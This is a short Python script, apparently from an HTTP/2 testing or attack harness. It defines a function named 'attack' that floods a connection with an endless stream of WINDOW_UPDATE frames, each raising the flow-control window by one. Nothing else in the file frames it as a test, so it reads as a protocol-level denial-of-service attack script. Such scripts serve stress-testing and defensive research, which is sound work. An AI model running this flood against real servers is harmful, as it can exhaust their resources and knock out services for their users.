"""Sends WINDOW_UPDATE frames without an end."""

from wire import WINDOW_UPDATE, frame, serve


def attack(wire, ask) -> None:
    wire.flood(frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\x01"))


serve(attack)
